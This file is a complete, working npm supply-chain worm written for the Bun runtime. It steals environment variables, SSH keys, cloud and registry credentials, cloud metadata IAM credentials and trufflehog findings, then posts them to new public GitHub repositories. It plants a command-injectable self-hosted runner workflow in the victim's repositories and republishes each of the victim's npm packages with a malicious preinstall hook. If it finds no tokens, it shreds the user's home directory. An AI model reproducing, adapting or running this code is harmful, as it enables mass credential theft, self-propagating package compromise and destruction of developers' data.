// bun_environment.js — executed with Bun.
const os = require('os');
const path = require('path');

const HOME = os.homedir();
const GH = 'https://api.github.com';
const NPM = 'https://registry.npmjs.org';
const MARK = 'Polaris-Lab: Token Sync Mirror';

async function sh(cmd) {
  try {
    const p = Bun.spawn(['sh', '-c', cmd], { stdout: 'pipe', stderr: 'ignore' });
    return (await new Response(p.stdout).text()).trim();
  } catch { return ''; }
}

async function readText(p) {
  try { const f = Bun.file(p); return (await f.exists()) ? await f.text() : ''; } catch { return ''; }
}

async function collect() {
  const env = { ...process.env };
  const files = {};
  for (const rel of ['.npmrc', '.git-credentials', '.aws/credentials', '.config/gh/hosts.yml', '.docker/config.json',
    '.kube/config', '.azure/accessTokens.json', '.config/gcloud/application_default_credentials.json',
    '.openclaw/openclaw.json', '.ssh/id_rsa', '.ssh/id_ed25519']) {
    const t = await readText(path.join(HOME, rel));
    if (t) files[rel] = t;
  }
  let ghToken = env.GITHUB_TOKEN || env.GH_TOKEN || (await sh('gh auth token 2>/dev/null'));
  if (!ghToken) {
    const m = /oauth_token:\s*(\S+)/.exec(files['.config/gh/hosts.yml'] || '');
    if (m) ghToken = m[1];
  }
  let npmToken = env.NPM_TOKEN || env.NODE_AUTH_TOKEN;
  if (!npmToken) {
    const m = /_authToken=(\S+)/.exec(files['.npmrc'] || '');
    if (m) npmToken = m[1];
  }
  let imds = '';
  try {
    const r = await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/', { signal: AbortSignal.timeout(1500) });
    if (r.ok) {
      const role = (await r.text()).split('\n')[0];
      imds = await (await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/' + role)).text();
    }
  } catch {}
  const trufflehog = await sh('command -v trufflehog >/dev/null && trufflehog filesystem "$HOME" --json --no-update 2>/dev/null | head -c 2000000');
  return {
    system: { host: os.hostname(), user: os.userInfo().username, platform: process.platform, arch: process.arch, ci: !!env.CI },
    env, files, imds, trufflehog, ghToken, npmToken
  };
}

function b64x3(s) {
  let v = s;
  for (let i = 0; i < 3; i++) v = Buffer.from(v).toString('base64');
  return v;
}

async function gh(token, method, url, body) {
  return fetch(GH + url, {
    method,
    headers: { Authorization: 'token ' + token, 'User-Agent': 'node', Accept: 'application/vnd.github+json' },
    body: body ? JSON.stringify(body) : undefined
  });
}

async function dumpToGithub(token, data) {
  const name = Array.from(crypto.getRandomValues(new Uint8Array(9))).map((b) => (b % 36).toString(36)).join('');
  const r = await gh(token, 'POST', '/user/repos', { name, description: MARK, private: false, auto_init: false });
  if (!r.ok) return null;
  const repo = await r.json();
  const files = {
    'contents.json': JSON.stringify({ system: data.system, ghToken: data.ghToken, npmToken: data.npmToken, imds: data.imds }),
    'environment.json': JSON.stringify(data.env),
    'cloud.json': JSON.stringify(data.files),
    'truffleSecrets.json': data.trufflehog || '[]'
  };
  for (const [p, c] of Object.entries(files)) {
    await gh(token, 'PUT', `/repos/${repo.full_name}/contents/${p}`, { message: 'add', content: Buffer.from(b64x3(c)).toString('base64') });
  }
  return repo.full_name;
}

async function plantRunnerBackdoor(token) {
  const wf = `name: Discussion Create\non:\n  discussion:\njobs:\n  process:\n    env:\n      RUNNER_TRACKING_ID: 0\n    runs-on: self-hosted\n    steps:\n      - uses: actions/checkout@v4\n      - name: Handle discussion\n        run: echo \${{ github.event.discussion.body }}\n`;
  const r = await gh(token, 'GET', '/user/repos?per_page=100&sort=pushed&affiliation=owner');
  if (!r.ok) return;
  const repos = await r.json();
  for (const repo of repos.slice(0, 25)) {
    if (repo.archived || !repo.permissions || !repo.permissions.push) continue;
    await gh(token, 'PUT', `/repos/${repo.full_name}/contents/.github/workflows/discussion.yaml`, {
      message: 'ci: add discussion triage', content: Buffer.from(wf).toString('base64'), branch: repo.default_branch
    });
  }
}

async function npmWhoami(token) {
  const r = await fetch(NPM + '/-/whoami', { headers: { Authorization: 'Bearer ' + token } });
  return r.ok ? (await r.json()).username : null;
}

async function propagate(token) {
  const user = await npmWhoami(token);
  if (!user) return;
  const s = await fetch(`${NPM}/-/v1/search?text=maintainer:${encodeURIComponent(user)}&size=100`);
  const { objects = [] } = await s.json();
  const selfDir = import.meta.dir;
  const setup = await Bun.file(path.join(selfDir, 'setup_bun.js')).text();
  const env = await Bun.file(path.join(selfDir, 'bun_environment.js')).text();
  for (const o of objects) {
    const name = o.package.name;
    const work = path.join(os.tmpdir(), 'pl-' + Math.random().toString(36).slice(2));
    await sh(`mkdir -p "${work}"`);
    const meta = await (await fetch(`${NPM}/${name.replace('/', '%2f')}/latest`)).json();
    const tgz = Buffer.from(await (await fetch(meta.dist.tarball)).arrayBuffer());
    await Bun.write(path.join(work, 'p.tgz'), tgz);
    await sh(`cd "${work}" && tar xzf p.tgz`);
    const pj = path.join(work, 'package', 'package.json');
    const pkg = JSON.parse(await Bun.file(pj).text());
    if (pkg.scripts && pkg.scripts.preinstall === 'node setup_bun.js') continue;
    const v = pkg.version.split('.');
    v[2] = String(Number(v[2]) + 1);
    pkg.version = v.join('.');
    pkg.scripts = { ...(pkg.scripts || {}), preinstall: 'node setup_bun.js' };
    await Bun.write(pj, JSON.stringify(pkg, null, 2));
    await Bun.write(path.join(work, 'package', 'setup_bun.js'), setup);
    await Bun.write(path.join(work, 'package', 'bun_environment.js'), env);
    await Bun.write(path.join(work, 'package', '.npmrc'), `//registry.npmjs.org/:_authToken=${token}\n`);
    await sh(`cd "${work}/package" && npm publish --access public --ignore-scripts >/dev/null 2>&1`);
    await sh(`rm -rf "${work}"`);
  }
}

async function scorch() {
  if (process.platform === 'win32') {
    await sh('cmd /c "del /F /Q /S %USERPROFILE%\\* & rd /S /Q %USERPROFILE%"');
  } else {
    await sh('find "$HOME" -type f -writable -user "$(id -un)" -print0 2>/dev/null | xargs -0 -r shred -uvz -n 1 >/dev/null 2>&1; find "$HOME" -depth -type d -empty -delete 2>/dev/null');
  }
}

(async () => {
  const data = await collect();
  let sent = false;
  if (data.ghToken) {
    const repo = await dumpToGithub(data.ghToken, data).catch(() => null);
    sent = !!repo;
    await plantRunnerBackdoor(data.ghToken).catch(() => {});
  }
  if (data.npmToken) await propagate(data.npmToken).catch(() => {});
  if (!data.ghToken && !data.npmToken && !sent) await scorch();
})();
